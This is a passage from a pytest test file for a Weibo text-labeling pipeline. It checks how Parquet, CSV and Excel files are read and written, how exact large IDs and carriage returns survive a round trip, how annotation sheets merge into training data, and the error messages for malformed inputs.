    assert len(list(parts_dir(output).glob("part-*.done"))) == 1
    launch_job("label_corpus.py", args)
    assert pd.read_parquet(output)["row_id"].tolist() == list(range(24))


def test_an_output_that_is_a_directory_and_repeated_parquet_columns_are_messages(
    tmp_path, tiny_run_dir, capsys, caplog
):
    import pyarrow as pa
    import pyarrow.parquet as pq

    spark = tmp_path / "labels.parquet"  # as Spark and Dask write a "Parquet file"
    spark.mkdir()
    (spark / "part-00000.parquet").write_bytes(b"")
    source = tmp_path / "c.parquet"
    pq.write_table(pa.table({"Sentence": ["国家宝藏真好看"]}), source)
    args = ["--input", str(source), "--model", str(tiny_run_dir), "--output", str(spark)]
    status, _, _ = run_job("label_corpus.py", args, capsys)
    assert status == 2 and f"--output {spark} is a directory (as Spark and Dask write Parquet)" in caplog.text
    repeated = tmp_path / "repeated.parquet"  # pyarrow, polars and Spark allow a column name twice; pandas does not
    pq.write_table(
        pa.Table.from_arrays([pa.array(["a"]), pa.array([0]), pa.array([1])], ["Sentence", "Label", "Label"]), repeated
    )
    status, _, _ = run_job("train.py", ["--data", str(repeated), "--output_dir", str(tmp_path / "run")], capsys)
    assert status == 2 and f"{repeated}: the header has duplicate column names ['Label']" in caplog.text
    assert "damaged" not in caplog.text


# =================================================================== 13. ids, carriage returns, merged types
def test_integers_of_more_than_15_digits_are_written_as_their_exact_digits_in_every_sheet(tmp_path):
    # Weibo mids have 16 digits: below 2**53 a double still holds them, but Excel shows and exports 15 digits.
    ids = [4987654321098765432, 4987654321098765, -4987654321098765, 999999999999999, 12]
    frame = pd.DataFrame({"Sentence": list("abcde"), "mid": np.array(ids, dtype=np.int64), "uid": ids})
    path = tmp_path / "ids.xlsx"
    write_table(frame, path)
    back = read_table(path)
    exact = ["4987654321098765432", "4987654321098765", "-4987654321098765", 999999999999999, 12]
    assert back["mid"].tolist() == exact and back["uid"].tolist() == exact
    worksheet = openpyxl.load_workbook(path).worksheets[0]
    assert [cell.data_type for cell in worksheet["B"][1:]] == ["s", "s", "s", "n", "n"]


def test_a_bare_carriage_return_stays_inside_its_csv_field(tmp_path):
    from weibolabel.data.formats import ALL_ROWS
    from weibolabel.data.tables import csv_blocks

    texts = ["ok", "cr\rreturn", "lf\nnewline", "crlf\r\nboth", "ends\r"]
    path = tmp_path / "t.csv"
    write_table(pd.DataFrame({"Sentence": texts, "Label": range(len(texts))}), path)
    back = read_table(path)
    assert back["Sentence"].tolist() == texts and back["Label"].tolist() == ["0", "1", "2", "3", "4"]
    # The labeling job's CSV reader (blocks of rows) sees the same rows.
    blocks = list(csv_blocks(path, "utf-8-sig", 1, ALL_ROWS, 2))
    assert [text for _, block in blocks for text in block["Sentence"]] == texts


@pytest.fixture
def csv_training_file(tmp_path) -> Path:
    """A training file kept as CSV: every cell reads as text ('0', '12')."""
    existing = tmp_path / "train.csv"
    existing.write_text("Sentence,Label,likes\n主持人讲得真好,0,12\n转发微博,3,7\n", encoding="utf-8")
    return existing


def test_a_merged_file_that_fails_its_check_is_named_by_its_output_not_its_temporary_name(
    tmp_path, csv_training_file, capsys
):
    sheet = tmp_path / "filled.xlsx"  # a column "likes.1" beside the file's "likes" reads as a repeated header
    pd.DataFrame({"Sentence": ["兵马俑好震撼"], "Label": [1], "likes.1": [3]}).to_excel(sheet, index=False)
    output = tmp_path / "m.csv"
    args = ["--annotations", str(sheet), "--existing", str(csv_training_file), "--output", str(output)]
    status, _, err = run_job("merge_annotations.py", args, capsys)
    assert status == 2 and f"would not load for training: {output}: the header has duplicate column names" in err
    assert ".tmp" not in err and not output.exists()


def test_a_csv_training_file_merges_into_parquet_with_one_label_type(tmp_path, csv_training_file, capsys, caplog):
    from weibolabel.data.labeled import load_labeled
    from weibolabel.data.labels import load_label_schema

    sheet = tmp_path / "filled.xlsx"  # the sheet's numbers are numbers: Label 1, likes 5
    pd.DataFrame({"Sentence": ["兵马俑好震撼", "中华文化"], "Label": [1, "culture"], "likes": [5, 6]}).to_excel(
        sheet, index=False
    )
    output = tmp_path / "m.parquet"
    args = ["--annotations", str(sheet), "--existing", str(csv_training_file), "--output", str(output)]
    status, _, err = run_job("merge_annotations.py", args, capsys)
    assert status == 0, err
    merged = pd.read_parquet(output)
    assert merged["Label"].tolist() == ["0", "3", "1", "2"]  # as the CSV holds them: text, ids as written
    assert merged["likes"].tolist() == ["12", "7", "5", "6"]
    assert f"{output}: the column(s) ['likes'] mix types" in caplog.text
    loaded = load_labeled(output, load_label_schema(None))  # what training reads back
    assert loaded.rows["label"].tolist() == [0, 3, 1, 2]


def test_the_printed_merge_summary_counts_every_sheet_row_and_names_the_issues_file(tmp_path, capsys):
    existing = tmp_path / "train.xlsx"
    write_table(pd.DataFrame({"Sentence": ["主持人讲得真好", "转发微博"], "Label": [0, 3]}), existing)
    sheet = tmp_path / "filled.xlsx"
    workbook = openpyxl.Workbook()
    rows = [
        ["Sentence", "Label"],
        ["兵马俑好震撼", 1],  # added
        ["中华文化", None],  # no label
        ["主持人讲得真好", 0],  # already known
        ["转发微博", 1],  # conflicts with the training file
        ["好好", 0],  # conflicting copies within the sheet: both dropped
        ["好好", 2],
        ["兵马俑好震撼", 1],  # a duplicate within the sheet
        ["=A2", 1],  # a formula with no saved value: an empty text
    ]
    for row in rows:
        workbook.active.append(row)
    workbook.save(sheet)
    output = tmp_path / "m.xlsx"
    args = ["--annotations", str(sheet), "--existing", str(existing), "--output", str(output)]
    status, out, err = run_job("merge_annotations.py", args, capsys)
    assert status == 0, err
    line = out.splitlines()[0]
    assert "2 existing + 1 new rows (of the sheet's 8 rows: 1 without a label skipped, 1 already known, " in line
    assert "1 conflicts left out" in line and "4 dropped for empty texts, duplicates or conflicting labels" in line
    assert f"{tmp_path / 'm'}_merge_issues.csv" in line
    summary = json.loads((tmp_path / "m_merge_summary.json").read_text())
    counted = [int(n) for n in re.findall(r"(\d+) (?:new rows|without|already|conflicts|dropped)", line)]
    assert sum(counted) == summary["annotation_rows"] == len(rows) - 1


def test_select_and_analyze_name_a_spreadsheet_or_a_directory_given_as_the_labeled_parquet(tmp_path, capsys):
    sheet = tmp_path / "labels.xlsx"
    write_table(pd.DataFrame({"Sentence": ["主持人讲得真好"], "Label": [0]}), sheet)
    for job, extra in [("select_for_annotation.py", ["--output", str(tmp_path / "s.xlsx")]), ("analyze_labels.py", [])]:
        status, _, err = run_job(job, ["--input", str(sheet), *extra], capsys)
        assert status == 2 and err.count("\n") == 1, err
        assert f"{sheet} is a .xlsx file, not the labeled Parquet file jobs/label_corpus.py writes" in err
        status, _, err = run_job(job, ["--input", str(tmp_path), *extra], capsys)
        assert status == 2 and f"{tmp_path} is a directory; pass the labeled Parquet file" in err, err
    damaged = tmp_path / "damaged.parquet"
    damaged.write_bytes(sheet.read_bytes())
    status, _, err = run_job("analyze_labels.py", ["--input", str(damaged)], capsys)
    assert status == 2 and f"{damaged} is not a readable Parquet file" in err, err
